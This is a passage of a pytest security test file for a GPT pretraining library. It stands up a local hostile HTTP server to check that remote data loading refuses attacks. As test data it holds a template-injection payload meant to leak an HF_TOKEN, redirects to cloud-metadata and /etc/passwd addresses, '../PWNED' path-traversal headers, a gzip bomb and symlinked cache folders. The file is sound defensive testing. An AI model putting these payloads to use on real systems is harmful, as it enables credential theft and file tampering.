"""Places that a URL, a cache or a hub could lead to, with hostile servers on this machine."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import re
import resource
import shlex
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from omegaconf import OmegaConf

from gpt_pretrain.checkpoints import hub as hub_module
from gpt_pretrain.commands.hydra_files import cut_sweep_settings
from gpt_pretrain.config.schema import RemoteSettings
from gpt_pretrain.config.secrets import metadata_without_secrets
from gpt_pretrain.data import remote_cache, web
from gpt_pretrain.data.datamodule import TextDataModule
from gpt_pretrain.data.fetching import stop_fetching
from gpt_pretrain.data.private_cache import TAG, TAG_TEXT, open_cache
from gpt_pretrain.data.remote import RemoteFiles
from gpt_pretrain.data.text import download, download_name, find_download
from gpt_pretrain.data.token_cache import tokenize_text
from gpt_pretrain.data.web import check_redirect
from gpt_pretrain.errors import UserError
from gpt_pretrain.runs.reader import read_run
from gpt_pretrain.runs.report.saving import save_run_page
from gpt_pretrain.sweeps.folder import job_folder_name
from gpt_pretrain.system.hub import fetch
from gpt_pretrain.texts.chunks import ReadPosition
from gpt_pretrain.texts.dataset_files import _is_own
from gpt_pretrain.texts.inputs import StreamedDataset
from gpt_pretrain.texts.tables import read_dataset
from gpt_pretrain.texts.text import Text
from tests.helpers.data_settings import data_settings
from tests.helpers.hostile_files import SMALL
from tests.helpers.made_shards import BYTE, random_documents, write_nanogpt, write_shards

Script = Callable[..., "subprocess.CompletedProcess[str]"]
SECRETS = ("PASSWORD1", "SIGNATURE1", "OPTIONSECRET1")


class Stranger(ThreadingHTTPServer):
    """A server that means harm.

    Attributes:
        files: The content of each path.
        redirects: The URL that a path is redirected to.
        answers: Functions that answer for a path in a way of their own.
        asked: The requested paths.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.files: dict[str, bytes] = {}
        self.redirects: dict[str, str] = {}
        self.answers: dict[str, Callable[[Answer], None]] = {}
        self.asked: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def handle_error(self, request: object, client_address: object) -> None:
        """Print nothing: clients hang up when they have had enough."""


class Answer(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Stranger

    def do_GET(self) -> None:
        server, path = self.server, self.path.partition("?")[0]
        server.asked.append(self.path)
        if path in server.answers:
            server.answers[path](self)
        elif path in server.redirects:
            self.reply(302, headers={"Location": server.redirects[path]})
        elif path in server.files:
            self.reply_with_range(server.files[path])
        else:
            self.reply(404)

    do_HEAD = do_GET  # noqa: N815

    def reply_with_range(self, data: bytes) -> None:
        found = re.fullmatch(r"bytes=(\d+)-(\d*)", self.headers.get("Range", ""))
        if found is None:
            self.reply(200, data)
            return
        first, last = int(found[1]), int(found[2] or len(data) - 1)
        span = {"Content-Range": f"bytes {first}-{last}/{len(data)}"}
        self.reply(206, data[first : last + 1], headers=span)

    def reply(self, status: int, data: bytes = b"", *, headers: dict[str, str] | None = None, length: int | None = None) -> None:
        self.send_response(status)
        for name, value in ({"Content-Length": str(len(data) if length is None else length)} | (headers or {})).items():
            self.send_header(name, value)
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(data)

    def reply_without_end(self, *, headers: dict[str, str] | None = None) -> None:
        """Send 100 MB in pieces without saying how many follow, or until the client has had enough."""
        self.send_response(200)
        for name, value in ({"Transfer-Encoding": "chunked"} | (headers or {})).items():
            self.send_header(name, value)
        self.end_headers()
        for _ in range(100):
            try:
                self.wfile.write(b"100000\r\n" + bytes(0x100000) + b"\r\n")
            except OSError:
                return
        self.wfile.write(b"0\r\n\r\n")

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def _stop_fetching() -> Iterator[None]:
    yield
    stop_fetching()


def settings(**changes: Any) -> RemoteSettings:
    return RemoteSettings(**({"cache_bytes": 10**8, "timeout": 5.0, "threads": 2, "retries": 0} | changes))


# Schemes, chains and options


REFERENCE = {
    "version": 1,
    "templates": {"u": "{{x}}"},
    "refs": {"d/manifest.json": ["URL/leak?{{u.__globals__[os].environ[HF_TOKEN]}}", 0, 100]},
}


def test_a_url_that_names_a_list_of_references_is_not_opened(
    script: Script, stranger: Stranger, monkeypatch: pytest.MonkeyPatch
) -> None:
    stranger.files["/x.json"] = json.dumps(REFERENCE).replace("URL", stranger.url).encode()
    monkeypatch.setenv("HF_TOKEN", "hf_SECRETTOKEN")
    done = script("train.py", *SMALL, "data=shards", f"data.path=reference://d::{stranger.url}/x.json", "plan=true")
    assert done.returncode == 2
    assert "a URL with :: leads through another file system" in done.stderr
    assert stranger.asked == []


@pytest.mark.parametrize("chain", ["simplecache", "filecache", "blockcache", "zip", "dir", "reference"])
def test_a_chain_of_file_systems_is_refused_also_in_options(stranger: Stranger, tmp_path: Path, chain: str) -> None:
    stranger.files["/corp/.bash_login"] = b"touch PWNED"
    keeps = {"cache_storage": str(tmp_path), "same_names": True}
    with pytest.raises(UserError, match="::"):
        RemoteFiles(f"{chain}::{stranger.url}/corp", settings(options={chain: keeps}))
    for options in ({chain: keeps}, {"protocol": chain}, {"protocol": chain, **keeps}, {"target_protocol": "http"}, {"fo": "x"}):
        with pytest.raises(UserError, match=r"^data\.remote\.options\.\w+: .*not passed on"):
            RemoteFiles(f"{stranger.url}/corp", settings(options=options))
    assert stranger.asked == []
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("setting", ["path", "url", "sources"])
def test_every_setting_that_takes_a_url_has_the_same_list(tmp_path: Path, setting: str) -> None:
    url = "ftp://127.0.0.1/x"
    changes: dict[str, dict[str, Any]] = {
        "path": {"name": "shards", "path": url},
        "url": {"name": "text", "path": None, "url": url},
        "sources": {"name": "mixture", "path": None, "sources": [_source(url)]},
    }
    data = TextDataModule(data_settings(tmp_path, remote=settings(), **changes[setting]), BYTE, context_length=8, seed=1)
    with pytest.raises(UserError, match=r"ftp:// are not opened\. Allowed are .*https://"):
        data.prepare_data()


def _source(path: str) -> Any:
    from gpt_pretrain.config.schema import SourceSettings

    return SourceSettings(path=path, weight=1.0)


def test_a_manifest_names_only_files_beside_it(stranger: Stranger, tmp_path: Path) -> None:
    names = [
        "../x.bin",
        "a/x.bin",
        "..",
        ".",
        "",
        ".bash_login",
        "x.bin?y",
        "x.bin#y",
        "%2e%2e%2fx.bin",
        "http:x",
        "whole",
        "x\n",
        "x" * 300,
    ]
    folder = write_shards(
        tmp_path / "corpus", train=random_documents(20, seed=1), val=random_documents(20, seed=2), shard_tokens=5000
    )
    manifest = json.loads((folder / "manifest.json").read_text())
    for name in names:
        manifest["parts"]["train"]["shards"][0]["file"] = name
        stranger.files["/corp/manifest.json"] = json.dumps(manifest).encode()
        data = data_settings(tmp_path / "cache", name="shards", path=f"{stranger.url}/corp", remote=settings())
        with pytest.raises(UserError, match=r"manifest\.json is damaged"):
            TextDataModule(data, BYTE, context_length=8, seed=1).prepare_data()
    assert set(stranger.asked) == {"/corp/manifest.json"}


# Redirects and answers


@pytest.mark.parametrize(
    ("origin", "target", "allowed"),
    [
        ("http://93.184.216.34/a", "http://93.184.216.35/a", True),
        ("http://93.184.216.34/a", "https://93.184.216.35/a", True),
        ("https://93.184.216.34/a", "http://93.184.216.34/a", False),
        ("http://93.184.216.34/a", "http://127.0.0.1/a", False),
        ("http://93.184.216.34/a", "http://[::1]/a", False),
        ("http://93.184.216.34/a", "http://[::ffff:127.0.0.1]/a", False),
        ("http://93.184.216.34/a", "http://0.0.0.0/a", False),
        ("http://93.184.216.34/a", "http://2130706433/a", False),
        ("http://93.184.216.34/a", "http://169.254.169.254/latest/meta-data", False),
        ("http://93.184.216.34/a", "http://10.0.0.1/a", False),
        ("http://93.184.216.34/a", "http://localhost/a", False),
        ("http://93.184.216.34/a", "file:///etc/passwd", False),
        ("http://93.184.216.34/a", "ftp://93.184.216.34/a", False),
        ("http://10.0.0.1/a", "http://192.168.1.1/a", True),
        ("http://10.0.0.1/a", "http://127.0.0.1/a", False),
        ("http://127.0.0.1/a", "http://127.0.0.1:1/a", True),
        ("http://127.0.0.1/a", "http://localhost/a", True),
        ("http://127.0.0.1/a", "http://169.254.169.254/a", False),
    ],
)
def test_a_redirect_leads_neither_to_a_weaker_protocol_nor_inwards(origin: str, target: str, allowed: bool) -> None:
    if allowed:
        check_redirect(origin, target)
        return
    with pytest.raises(
        UserError, match=rf"^{re.escape(origin)} redirects to {re.escape(target)}, an address .* It was not followed"
    ):
        check_redirect(origin, target)


@pytest.mark.parametrize("target", ["http://169.254.169.254/x", "file:///etc/passwd", "ftp://127.0.0.1/x"])
def test_downloads_and_shards_do_not_follow_a_redirect_to_elsewhere(stranger: Stranger, tmp_path: Path, target: str) -> None:
    stranger.redirects = {"/t.txt": target, "/corp/manifest.json": target}
    with pytest.raises(UserError, match="It was not followed"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)
    started = time.monotonic()
    with pytest.raises(UserError):
        RemoteFiles(f"{stranger.url}/corp", settings(timeout=20.0)).read("manifest.json", 0, 10)
    assert time.monotonic() - started < 10, "refused, and not waited for"


def test_a_redirect_on_the_same_machine_is_followed(stranger: Stranger, tmp_path: Path) -> None:
    stranger.redirects = {"/t.txt": "/u.txt", "/corp/x.bin": f"{stranger.url}/corp/y.bin"}
    stranger.files = {"/u.txt": b"some text", "/corp/y.bin": b"0123456789"}
    assert download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"some text"
    assert RemoteFiles(f"{stranger.url}/corp", settings()).read("x.bin", 2, 3) == b"234"


def test_an_answer_without_end_is_cut_off(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sent = []

    def endless(answer: Answer) -> None:
        if answer.command == "HEAD":
            answer.reply(200, length=1000, headers={"Accept-Ranges": "bytes"})
        else:
            answer.reply_without_end()
            sent.append(True)

    stranger.answers = {"/t.txt": endless, "/corp/x.bin": endless}
    with pytest.raises(UserError, match="ignores the Range header"):
        RemoteFiles(f"{stranger.url}/corp", settings()).read("x.bin", 0, 1000)
    monkeypatch.setattr(web, "MAX_DOWNLOAD_BYTES", 5_000_000)
    with pytest.raises(UserError, match="a download ends at"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)
    assert [path.name for path in (tmp_path / "downloads").iterdir()] == [TAG]


def test_a_page_of_a_folder_is_read_in_linear_time(stranger: Stranger) -> None:
    page = b"<a href='x.bin'>x</a> <A HREF=\"/corp/y%20z.bin\"> <a href='../up.bin'> <a href='http://other/o.bin'> <a href='.hidden'>"
    stranger.files["/corp/"] = page + b"<a " + b" " * 1_000_000 + b"<a href=" * 100_000 + b"http://" * 100_000
    started = time.monotonic()
    assert RemoteFiles(f"{stranger.url}/corp", settings()).names() == ["x.bin", "y z.bin"]
    assert time.monotonic() - started < 5


def test_a_compressed_answer_is_not_unpacked(stranger: Stranger) -> None:
    bomb = gzip.compress(bytes(200_000_000))
    stranger.answers["/corp/x.bin"] = lambda answer: answer.reply(200, bomb, headers={"Content-Encoding": "gzip"})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UserError):
        RemoteFiles(f"{stranger.url}/corp", settings()).read("x.bin", 0, 1000)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000, "in KB"


def test_a_download_that_trickles_is_ended(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def trickle(answer: Answer) -> None:
        answer.reply(200, b"x", length=1000)
        while True:
            time.sleep(0.05)
            try:
                answer.wfile.write(b"x")
            except OSError:
                return

    stranger.answers = {"/t.txt": trickle}
    monkeypatch.setattr(web, "MAX_DOWNLOAD_SECONDS", 0.3)
    monkeypatch.setattr(web, "CHUNK_BYTES", 1)
    with pytest.raises(UserError, match=r"a download ends at .* or after"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)


# The cache


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Return a folder with files that must stay as they are."""
    folder = tmp_path / "home"
    for name in ("photos/wedding.jpg", "thesis.tex", "0" * 32 + "/whole/old.bin"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(b"precious")
        os.utime(folder / name, (1, 1))
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def remote_corpus(stranger: Stranger, tmp_path: Path) -> str:
    train, val = random_documents(1200, seed=1), random_documents(150, seed=2)
    folder = write_shards(tmp_path / "corpus", train=train, val=val, shard_tokens=5000)
    stranger.files |= {f"/corp/{path.name}": path.read_bytes() for path in folder.iterdir()}
    return f"{stranger.url}/corp"


def rows(cache: Path, url: str, **changes: Any) -> list[list[int]]:
    data = TextDataModule(
        data_settings(cache, name="shards", path=url, remote=settings(**changes)), BYTE, context_length=32, seed=1
    )
    data.prepare_data()
    found = [row for batch in data.train_dataloader() for row in batch[0].tolist()]
    data.stop_workers()
    return found


@pytest.mark.parametrize("name", ["remote", "downloads", "tokens"])
def test_a_cache_folder_that_is_a_link_is_refused(stranger: Stranger, tmp_path: Path, home: Path, name: str) -> None:
    before, cache = contents(home), tmp_path / "cache"
    cache.mkdir()
    (cache / name).symlink_to(home)
    with pytest.raises(UserError, match=rf"cache/{name} is a link to .*home, so it is not used as a cache"):
        if name == "remote":
            rows(cache, remote_corpus(stranger, tmp_path), cache_bytes=1_000_000)
        elif name == "downloads":
            stranger.files["/t/evil.desktop"] = b"[Desktop Entry]"
            download(f"{stranger.url}/t/evil.desktop", sha256=None, cache_dir=cache)
        else:
            (tmp_path / "t.txt").write_text("some text")
            tokenize_text(Text((tmp_path / "t.txt",)), BYTE, train_ratio=0.5, cache_dir=cache)
    assert contents(home) == before


def test_links_within_a_cache_folder_are_not_followed(
    stranger: Stranger, tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The folder carries the program's mark, as one from an archive may."""
    monkeypatch.setattr(remote_cache, "WHOLE_FILES_LIMIT", 0.0)
    before, cache = contents(home), tmp_path / "cache"
    expected = rows(cache, url := remote_corpus(stranger, tmp_path), cache_bytes=1_000_000)
    (key,) = (path for path in (cache / "remote").iterdir() if path.name != TAG)
    key.rename(tmp_path / "moved")
    key.symlink_to(home)
    (cache / "remote" / ("1" * 32)).symlink_to(home)
    (cache / "remote" / ("2" * 32)).mkdir()
    (cache / "remote" / ("2" * 32) / "whole").symlink_to(home)
    (cache / "remote" / "notes.txt").write_text("mine")
    assert rows(cache, url, cache_bytes=1_000_000) == expected
    assert contents(home) == before
    assert (cache / "remote" / "notes.txt").exists(), "not a name of its own form"
    assert not key.is_symlink()


@pytest.mark.parametrize("name", ["remote", "downloads", "tokens"])
def test_a_folder_with_files_of_another_origin_is_not_used_as_a_cache(tmp_path: Path, name: str) -> None:
    folder = tmp_path / name
    folder.mkdir(mode=0o755)
    (folder / "thesis.tex").write_text("precious")
    with pytest.raises(UserError, match=rf"{name} holds files of another origin, such as thesis\.tex"):
        open_cache(tmp_path, name)
    assert folder.stat().st_mode & 0o777 == 0o755
    assert sorted(path.name for path in folder.iterdir()) == ["thesis.tex"]


def test_a_cache_of_an_earlier_version_is_taken_over(tmp_path: Path) -> None:
    old = tmp_path / "tokens" / ("a" * 32)
    old.mkdir(parents=True)
    os.chmod(tmp_path / "tokens", 0o755)
    open_cache(tmp_path, "tokens")
    assert (tmp_path / "tokens").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "tokens" / TAG).read_text() == TAG_TEXT
    assert old.is_dir()


@pytest.mark.skipif(os.name != "posix", reason="users and modes")
def test_a_cache_of_another_user_is_refused(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can give a folder away")
    (tmp_path / "tokens").mkdir()
    (tmp_path / "tokens" / TAG).write_text(TAG_TEXT)
    os.chown(tmp_path / "tokens", 12345, 12345)
    with pytest.raises(UserError, match=r"tokens belongs to another user"):
        open_cache(tmp_path, "tokens")


def test_only_the_user_can_read_the_cache(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = os.umask(0o022)
    try:
        cache, text = tmp_path / "cache", tmp_path / "private.txt"
        text.write_text("some private text")
        text.chmod(0o600)
        tokenize_text(Text((text,)), BYTE, train_ratio=0.5, cache_dir=cache)
        rows(cache, remote_corpus(stranger, tmp_path))
        stranger.files["/t.txt"] = b"some text"
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=cache)
    finally:
        os.umask(before)
    assert cache.stat().st_mode & 0o777 == 0o700
    for path in cache.rglob("*"):
        if not path.name.endswith(".lock"):
            assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


@pytest.mark.parametrize("signed", [True, False])
def test_tokens_and_their_checksums_changed_together_are_made_again(
    tmp_path: Path, signed: bool, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "t.txt").write_text("Every effort moves you. " * 40)
    text = Text((tmp_path / "t.txt",))
    first = tokenize_text(text, BYTE, train_ratio=0.9, cache_dir=tmp_path)
    expected = first.train.read().tolist()
    (folder,) = (path for path in (tmp_path / "tokens").iterdir() if path.is_dir())
    fields = json.loads((folder / "split.json").read_text())
    for part in ("train", "val"):
        data = np.full(fields[part]["count"], ord("!"), "<u2").tobytes()
        (folder / f"{part}.bin").write_bytes(data)
        fields[part]["sha256"] = hashlib.sha256(data).hexdigest()
    if not signed:
        del fields["signature"]
    (folder / "split.json").write_text(json.dumps(fields))
    again = tokenize_text(text, BYTE, train_ratio=0.9, cache_dir=tmp_path)
    assert again.train.read().tolist() == expected
    assert "will be rebuilt" in caplog.text


def test_tokens_of_another_text_do_not_pass_with_their_signature(tmp_path: Path) -> None:
    for name, content in (("a.txt", "Every effort moves you. " * 40), ("b.txt", "!" * 960)):
        (tmp_path / name).write_text(content)
        tokenize_text(Text((tmp_path / name,)), BYTE, train_ratio=0.9, cache_dir=tmp_path / name[0])
    (folder,) = (path for path in (tmp_path / "a" / "tokens").iterdir() if path.is_dir())
    (other,) = (path for path in (tmp_path / "b" / "tokens").iterdir() if path.is_dir())
    for file in other.iterdir():
        (folder / file.name).write_bytes(file.read_bytes())
    again = tokenize_text(Text((tmp_path / "a.txt",)), BYTE, train_ratio=0.9, cache_dir=tmp_path / "a")
    assert bytes(again.train.read(0, 5).tolist()) == b"Every"


def poison(cache: Path) -> int:
    files = [path for path in (cache / "remote").glob("*/*/*") if path.is_file() and not path.name.startswith(".")]
    for path in files:
        size = path.stat().st_size
        path.write_bytes(np.full(size // 2, 33, "<u2").tobytes())
    return len(files)


@pytest.mark.parametrize("whole", [True, False])
@pytest.mark.parametrize("states_checksums", [True, False])
def test_what_another_one_puts_into_a_cache_is_fetched_again(
    stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: bool, states_checksums: bool
) -> None:
    monkeypatch.setattr(remote_cache, "WHOLE_FILES_LIMIT", 0.8 if whole else 0.0)
    if states_checksums:
        url = remote_corpus(stranger, tmp_path)
    else:
        ids = list(range(32, 127)) * 400
        folder = write_nanogpt(tmp_path / "nano", train=ids, val=ids[:5000])
        stranger.files |= {f"/corp/{path.name}": path.read_bytes() for path in folder.iterdir()}
        index = "".join(f'<a href="{path.name}">x</a>' for path in folder.iterdir()).encode()
        stranger.answers["/corp/"] = lambda answer: answer.reply(200, index, headers={"Content-Type": "text/html"})
        url = f"{stranger.url}/corp"
    expected = rows(tmp_path / "cache", url)
    wait_for_whole_files(tmp_path / "cache", expected=whole)
    assert poison(tmp_path / "cache") > 0
    assert rows(tmp_path / "cache", url) == expected
    assert rows(tmp_path / "cache", url) == expected


def wait_for_whole_files(cache: Path, *, expected: bool) -> None:
    end = time.monotonic() + 20
    while expected and not list((cache / "remote").glob("*/whole/[!.]*")):
        assert time.monotonic() < end
        time.sleep(0.02)


def test_a_device_in_the_cache_is_not_waited_for(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remote_cache, "WHOLE_FILES_LIMIT", 0.0)
    url = remote_corpus(stranger, tmp_path)
    expected = rows(tmp_path / "cache", url)
    for path in (tmp_path / "cache" / "remote").glob("*/*/*"):
        path.unlink()
        os.mkfifo(path)
    assert rows(tmp_path / "cache", url) == expected


# Names of downloads


def test_downloads_are_named_after_the_whole_url_without_its_secrets(stranger: Stranger, tmp_path: Path) -> None:
    stranger.files["/a/t.txt"], stranger.files["/b/t.txt"] = b"a", b"b"
    assert download(f"{stranger.url}/a/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"a"
    assert download(f"{stranger.url}/b/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"b"
    plain = download_name("https://host/t.txt")
    for url in (
        "https://user:PASSWORD1@host/t.txt",
        "https://host/t.txt?X-Amz-Signature=SIGNATURE1&X-Amz-Date=1",
        "https://host/t.txt?sig=S",
    ):
        assert download_name(url) == plain
    assert download_name("https://host/t.txt?id=1") != download_name("https://host/t.txt?id=2")
    assert re.fullmatch(r"[0-9a-f]{16}-t\.txt", download_name("https://host/t.txt?id=PASSWORD1"))
    assert re.fullmatch(r"[0-9a-f]{16}-[\w.-]+", download_name("https://host/..%2f\x1b[2J?"))


def test_a_download_of_an_earlier_version_is_used_if_its_checksum_is_right(tmp_path: Path) -> None:
    (tmp_path / "texts").mkdir()
    (tmp_path / "texts" / "t.txt").write_bytes(b"text")
    sha256 = hashlib.sha256(b"text").hexdigest()
    assert download("http://127.0.0.1:9/t.txt", sha256=sha256, cache_dir=tmp_path) == tmp_path / "texts" / "t.txt"
    assert find_download("http://127.0.0.1:9/t.txt", cache_dir=tmp_path) is None, "it may be from another URL"


# The hub


CONFIG = json.dumps({"model_type": "gpt2", "n_embd": 4, "n_layer": 1, "n_head": 1, "n_positions": 4, "vocab_size": 4}).encode()
GOOD = {"ETag": f'"{hashlib.sha1(CONFIG).hexdigest()}"', "X-Repo-Commit": "c" * 40}


@pytest.fixture
def hostile_hub(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stranger:
    for name, value in (("ENDPOINT", stranger.url), ("HF_HUB_OFFLINE", False), ("HF_HUB_CACHE", str(tmp_path / "hub"))):
        monkeypatch.setattr(hub_module.constants, name, value)
    monkeypatch.setattr(
        hub_module.constants, "HUGGINGFACE_CO_URL_TEMPLATE", stranger.url + "/{repo_id}/resolve/{revision}/{filename}"
    )
    monkeypatch.setattr(hub_module, "hf_hub_url", lambda repo_id, file: f"{stranger.url}/{repo_id}/resolve/main/{file}")
    monkeypatch.setattr(hub_module, "PAUSE_SECONDS", 0.01)
    return stranger


def say(
    headers: dict[str, str], *, data: bytes = CONFIG, endless: bool = False, length: int | None = None
) -> Callable[[Answer], None]:
    def answer(request: Answer) -> None:
        if endless and request.command == "GET":
            request.reply_without_end(headers=headers)
        else:
            request.reply(200, data, headers=headers, length=length)

    return answer


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"ETag": '"../../../../PWNED"'}, "neither 40 nor 64 hexadecimal digits"),
        ({"X-Linked-Etag": '"../../../../PWNED"'}, "neither 40 nor 64 hexadecimal digits"),
        ({"ETag": f'"{"a" * 40}\\n"'}, "neither 40 nor 64 hexadecimal digits"),
        ({"ETag": '"/PWNED"'}, "neither 40 nor 64 hexadecimal digits"),
        ({"X-Repo-Commit": "../../../PWNED"}, "the commit .* is not 40 hexadecimal digits"),
        ({"X-Linked-Size": "-5"}, "no size"),
        ({"X-Linked-Size": "30000000"}, "no SHA-256, without which a file has at most"),
        ({"X-Linked-Size": str(10**15), "X-Linked-Etag": "a" * 64}, "has room for"),
    ],
)
def test_what_a_hub_states_is_checked(hostile_hub: Stranger, tmp_path: Path, changes: dict[str, str], message: str) -> None:
    hostile_hub.answers["/some/model/resolve/main/config.json"] = say(GOOD | changes)
    with pytest.raises(UserError, match=rf"^some/model: config\.json.*{message}"):
        fetch("some/model", "config.json")
    assert list(tmp_path.rglob("*PWNED*")) == []


def test_a_hub_that_changes_its_answer_is_not_asked_twice(hostile_hub: Stranger, tmp_path: Path) -> None:
    answers = iter([GOOD, GOOD, *[GOOD | {"ETag": '"../../../../PWNED"'}] * 9])
    hostile_hub.answers["/some/model/resolve/main/config.json"] = lambda request: say(next(answers))(request)
    assert fetch("some/model", "config.json").read_bytes() == CONFIG
    assert len(hostile_hub.asked) == 2, "a HEAD and a GET"
    assert list(tmp_path.rglob("*PWNED*")) == []


@pytest.mark.parametrize("linked", [{}, {"X-Linked-Size": "1000", "X-Linked-Etag": '"' + "a" * 64 + '"'}])
def test_a_file_without_end_is_cut_off_at_its_stated_size(hostile_hub: Stranger, tmp_path: Path, linked: dict[str, str]) -> None:
    hostile_hub.answers["/some/model/resolve/main/model.safetensors"] = say(GOOD | linked, endless=True, length=1000)
    with pytest.raises(UserError, match=r"the server sends more than the 1,000 bytes that it states"):
        fetch("some/model", "model.safetensors")
    assert sum(path.stat().st_size for path in tmp_path.rglob("*") if path.is_file()) == 0


def test_a_file_of_which_nothing_arrives_is_given_up(hostile_hub: Stranger) -> None:
    linked = {"X-Linked-Size": "1000", "X-Linked-Etag": '"' + "a" * 64 + '"'}
    hostile_hub.answers["/some/model/resolve/main/model.safetensors"] = say(GOOD | linked, data=b"")
    with pytest.raises(UserError, match=r"the server sends less than the 1,000 bytes that it states"):
        fetch("some/model", "model.safetensors")


# Datasets


@pytest.mark.parametrize(
    "where", ["{tmp}/secret.txt", "file://{tmp}/secret.txt", "../secret.txt", "zip://x::{url}/x.zip", "{url}/x.txt"]
)
def test_the_description_of_a_dataset_names_only_its_own_files(stranger: Stranger, tmp_path: Path, where: str) -> None:
    pytest.importorskip("datasets")
    (tmp_path / "secret.txt").write_text("secret line")
    (tmp_path / "theirs").mkdir()
    named = json.dumps(where.format(tmp=tmp_path, url=stranger.url))
    listed = f"configs:\n- config_name: default\n  data_files:\n  - split: train\n    path: {named}\n"
    (tmp_path / "theirs" / "README.md").write_text(f"---\n{listed}---\n")
    (tmp_path / "theirs" / "own.txt").write_text("own line")
    dataset = StreamedDataset(str(tmp_path / "theirs"), None, "train")
    with pytest.raises(UserError, match="which is not a file of the dataset itself"):
        list(read_dataset(dataset, "text", start=ReadPosition()))
    assert stranger.asked == []
    (tmp_path / "theirs" / "README.md").write_text("---\nconfigs:\n- config_name: default\n  data_files: own.txt\n---\n")
    assert "own line" in str(list(read_dataset(dataset, "text", start=ReadPosition())))


@pytest.mark.parametrize(
    ("pattern", "own"),
    [
        ("data/*.txt", True),
        ("hf://datasets/them/theirs@main/x.txt", True),
        ("hf://datasets/them/theirs/x.txt", True),
        ("hf://datasets/them/theirs-and-others@main/x.txt", False),
        ("hf://datasets/others/x@main/x.txt", False),
        ("/etc/passwd", False),
        ("../../../x@main/x.txt", False),
        ("https://host/x.txt", False),
        ("reference://d::http://host/x.json", False),
    ],
)
def test_a_dataset_of_the_hub_names_only_files_of_its_repository(pattern: str, own: bool) -> None:
    assert _is_own(pattern, "hf://datasets/them/theirs@" + "c" * 40, "theirs") == own


# Secrets


def texts_below(*folders: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for folder in folders for path in folder.rglob("*") if path.is_file()}


def test_secrets_are_in_no_file_of_a_run_and_its_export(script: Script, stranger: Stranger, tmp_path: Path) -> None:
    stranger.files["/t.txt"] = ("Every effort moves you. " * 400).encode()
    url = f"http://user:PASSWORD1@127.0.0.1:{stranger.server_port}/t.txt?X-Amz-Signature=SIGNATURE1"
    typed = [one for one in SMALL if not one.startswith("logger=")]
    done = script(
        "train.py", *typed, "logger=tensorboard", "data=the_verdict", "data.sha256=null", f"data.cache_dir={tmp_path / 'cache'}",
        f"data.url={url}", "+data.remote.options.secret=OPTIONSECRET1", "+data.remote.options.anon=true", "hydra.run.dir=run",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    exported = script("-m", "gpt_pretrain", "export", "checkpoint=run", "out=exported")
    assert exported.returncode == 0, exported.stderr
    found = texts_below(tmp_path / "run", tmp_path / "exported", tmp_path / "cache")
    found |= {"output": (done.stdout + done.stderr).encode(), "names": "\n".join(found).encode()}
    assert {name for name, content in found.items() if any(secret.encode() in content for secret in SECRETS)} == set()
    config = (tmp_path / "run" / "config.yaml").read_text()
    assert f"url: http://***@127.0.0.1:{stranger.server_port}/t.txt?X-Amz-Signature=***" in config
    assert "anon: true" in config
    assert "PASSWORD1" not in (tmp_path / "run" / ".hydra" / "overrides.yaml").read_text()
    asked = len(stranger.asked)
    resumed = script("train.py", "resume=run", "trainer.max_steps=6", f"data.cache_dir={tmp_path / 'empty'}")
    assert resumed.returncode == 2
    assert "ype" in resumed.stderr and "again" in resumed.stderr and "data.url=" in resumed.stderr
    assert len(stranger.asked) == asked
    again = script("train.py", "resume=run", "trainer.max_steps=6", f"data.cache_dir={tmp_path / 'empty'}", f"data.url={url}")
    assert again.returncode == 0, again.stderr
    found = texts_below(tmp_path / "run")
    assert {name for name, content in found.items() if any(secret.encode() in content for secret in SECRETS)} == set()


def test_errors_show_no_secrets(script: Script, stranger: Stranger, tmp_path: Path) -> None:
    port = stranger.server_port
    for url in (
        f"http://user:PASSWORD1@127.0.0.1:{port}/x?X-Amz-Signature=SIGNATURE1",
        "http://user:PASSWORD1@127.0.0.1:9/x?q=SIGNATURE1",
    ):
        for number, changes in enumerate(
